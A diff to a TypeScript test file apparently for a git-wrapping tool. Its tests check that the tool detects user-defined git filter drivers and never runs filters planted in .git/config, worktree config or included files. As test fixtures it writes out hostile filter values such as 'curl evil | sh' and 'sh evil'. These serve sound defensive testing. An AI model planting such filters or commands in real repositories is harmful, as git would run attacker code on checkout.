@@ -1,12 +1,14 @@
 import { execFileSync } from 'node:child_process';
-import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
+import { logExec } from '../../src/platform/exec.ts';
+import { inWorktree, linkedAt } from '../../src/platform/git/admin.ts';
 import { defaultTarget, findRepo, operationInProgress, userFilters, worktrees } from '../../src/platform/git/repository.ts';
 import { git } from '../../src/platform/git/run.ts';
-import { parseUserConfig } from '../../src/platform/git/user.ts';
-import { gitRepo } from './repo.ts';
+import { interpret } from '../../src/platform/git/user.ts';
+import { gitRepo, type TestRepo } from './repo.ts';
 
 function emptyFolder(): Disposable & { path: string } {
   const path = realpathSync(mkdtempSync(join(tmpdir(), 'furrow-none-')));
@@ -70,23 +72,82 @@ describe('a repository', () => {
     expect(await operationInProgress(repo.gitDir)).toBeUndefined();
     writeFileSync(join(repo.gitDir, 'MERGE_HEAD'), repo.sh(['rev-parse', 'HEAD']));
     expect(await operationInProgress(repo.gitDir)).toBe('merge');
-    repo.sh(['config', 'filter.lfs.clean', 'git-lfs clean -- %f']);
+    repo.sh(['config', 'filter.lfs.process', 'git-lfs filter-process']);
+    repo.sh(['config', 'filter.notebook.smudge', 'cat']);
     expect(await userFilters(repo)).toEqual([]);
-    repo.sh(['config', 'filter.lfs.smudge', 'curl evil | sh']);
+    repo.sh(['config', 'filter.lfs.process', 'curl evil | sh']);
     repo.sh(['config', 'filter.x.process', 'x']);
-    expect((await userFilters(repo)).sort()).toEqual(['filter.lfs.smudge', 'filter.x.process']);
+    expect((await userFilters(repo)).sort()).toEqual(['lfs', 'x']);
   });
 });
 
 describe('git as we run it', () => {
   it('ignores what the user’s own git ignores', () => {
-    expect(parseUserConfig('', '/h', undefined).flags).toEqual(['core.excludesFile=/h/.config/git/ignore']);
-    expect(parseUserConfig('core.excludesfile\n~/ig\0core.autocrlf\ninput\0alias.x\n!rm\0', '/h', '/x').flags).toEqual([
+    const place = { home: '/h', xdg: '/h/.config', gitDir: '/r/.git' };
+    const from = (text: string) => {
+      const lines = text.split('\n').filter(Boolean);
+      return interpret(
+        lines.map((line) => ({ scope: 'global', key: line.split(' ')[0]!, value: line.slice(line.indexOf(' ') + 1) })),
+        place,
+      );
+    };
+    expect(from('').flags).toEqual(['core.excludesFile=/h/.config/git/ignore']);
+    expect(from('core.excludesfile ~/ig\ncore.autocrlf input\nalias.x !rm').flags).toEqual([
       'core.excludesFile=/h/ig',
       'core.autocrlf=input',
     ]);
-    expect(parseUserConfig('user.name\nAda\0user.email\na@b\0', '/h', '/x').identity).toEqual({ name: 'Ada', email: 'a@b' });
-    expect(parseUserConfig('filter.lfs.clean\ngit-lfs clean -- %f\0filter.lfs.smudge\nsh evil\0', '/h', '/x').flags).toHaveLength(2);
+    expect(from('user.name Ada\nuser.email a@b').identity).toEqual({ name: 'Ada', email: 'a@b' });
+    expect(from('filter.lfs.clean git-lfs clean -- %f\nfilter.lfs.smudge sh evil').env).toEqual({});
+    const own = from('filter.lfs.smudge git-lfs smudge -- %f\nfilter.lfs.process git-lfs filter-process --skip');
+    expect(own.filters.get('lfs')?.lfs).toEqual({ skip: true });
+    expect(own.env['GIT_CONFIG_VALUE_0']).toMatch(/lfs\/main\.ts' '\/r\/\.git\/lfs' '--skip'$/);
+  });
+
+  it('reads the user’s configuration once, and again when it has changed', async () => {
+    await using repo = await gitRepo();
+    const reads: string[] = [];
+    await git(repo, ['rev-parse', 'HEAD']);
+    logExec(({ argv }) => argv[1] === 'config' && reads.push(argv.join(' ')));
+    await git(repo, ['rev-parse', 'HEAD']);
+    expect(reads).toEqual([]);
+    repo.sh(['config', 'core.autocrlf', 'input']);
+    await git(repo, ['rev-parse', 'HEAD']);
+    await git(repo, ['rev-parse', 'HEAD']);
+    logExec(() => {});
+    expect(reads).toHaveLength(1);
+  });
+
+  it.each([
+    ['.git/config', (repo: TestRepo, key: string, value: string) => repo.sh(['config', key, value])],
+    [
+      'the configuration of a worktree',
+      (repo: TestRepo, key: string, value: string) => {
+        repo.sh(['config', 'extensions.worktreeConfig', 'true']);
+        repo.sh(['config', '--worktree', key, value], join(repo.root, '.furrow/w'));
+      },
+    ],
+    [
+      'an included file',
+      (repo: TestRepo, key: string, value: string) => {
+        repo.sh(['config', 'include.path', join(repo.root, 'more')]);
+        repo.sh(['config', '--file', join(repo.root, 'more'), key, value]);
+      },
+    ],
+  ])('runs no filter that is planted in %s while it works', async (_name, plant) => {
+    await using repo = await gitRepo();
+    repo.sh(['worktree', 'add', '-q', '-b', 'w', join(repo.root, '.furrow/w')]);
+    const inside = inWorktree(repo, (await linkedAt(repo, join(repo.root, '.furrow/w')))!);
+    const canary = join(repo.root, 'CANARY');
+    writeFileSync(join(repo.root, '.furrow/w/.gitattributes'), '*.txt filter=x\n*.md filter=y=z\n');
+    await git(repo, ['add', '-A'], inside);
+    for (const driver of ['x', 'y=z'])
+      for (const what of ['clean', 'smudge', 'process']) plant(repo, `filter.${driver}.${what}`, `touch '${canary}'; cat`);
+    writeFileSync(join(repo.root, '.furrow/w/src/a.txt'), 'other\n');
+    writeFileSync(join(repo.root, '.furrow/w/readme.md'), 'other\n');
+    await git(repo, ['add', '-A'], inside);
+    await git(repo, ['checkout', '-q', '-f', 'main', '--', '.'], inside);
+    await git(repo, ['status', '--porcelain'], inside);
+    expect(existsSync(canary)).toBe(false);
   });
 
   it('runs nothing that the repository’s configuration plants', async () => {
